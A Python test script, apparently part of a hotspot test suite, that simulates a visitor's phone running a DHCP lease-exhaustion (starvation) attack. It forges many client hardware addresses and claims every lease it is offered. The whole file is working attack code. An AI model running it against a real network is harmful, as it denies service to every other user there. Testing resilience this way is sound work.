#!/usr/bin/env python3
"""A visitor's phone that tries to take every DHCP lease of the hotspot (scenario w): from one
radio it asks for addresses under N made-up client hardware addresses (DISCOVER, then REQUEST for
the offered address), as a lease-exhaustion tool does. Prints one line: "acks A of N".
Usage (inside the visitor's namespace): dhcp-flood.py IFACE N"""
import os
import random
import socket
import struct
import sys
import time


def packet(kind, xid, chaddr, requested=None, server=None):
    head = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000,
                       b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4, chaddr + b"\0" * 10, b"", b"")
    opts = b"\x63\x82\x53\x63" + bytes([53, 1, kind])
    if requested:
        opts += bytes([50, 4]) + requested
    if server:
        opts += bytes([54, 4]) + server
    return head + opts + b"\xff"


def reply(sock, xid, want, deadline):
    """The server's reply of type `want` to `xid`: (offered address, server id), or None."""
    while time.time() < deadline:
        sock.settimeout(max(0.05, deadline - time.time()))
        try:
            data = sock.recv(1500)
        except socket.timeout:
            return None
        if len(data) < 240 or struct.unpack("!I", data[4:8])[0] != xid:
            continue
        opts, i, kind, server = data[240:], 0, None, None
        while i < len(opts) and opts[i] != 255:
            if opts[i] == 0:
                i += 1
                continue
            code, size = opts[i], opts[i + 1]
            value = opts[i + 2:i + 2 + size]
            if code == 53:
                kind = value[0]
            elif code == 54:
                server = value
            i += 2 + size
        if kind == want:
            return data[16:20], server
    return None


def main():
    iface, n = sys.argv[1], int(sys.argv[2])
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    sock.bind(("0.0.0.0", 68))
    acks = 0
    for _ in range(n):
        chaddr = bytes([0x02]) + os.urandom(5)
        xid = random.getrandbits(32)
        sock.sendto(packet(1, xid, chaddr), ("255.255.255.255", 67))
        offer = reply(sock, xid, 2, time.time() + 4)
        if offer is None:
            continue
        sock.sendto(packet(3, xid, chaddr, offer[0], offer[1]), ("255.255.255.255", 67))
        if reply(sock, xid, 5, time.time() + 2) is not None:
            acks += 1
    print(f"acks {acks} of {n}")


if __name__ == "__main__":
    main()
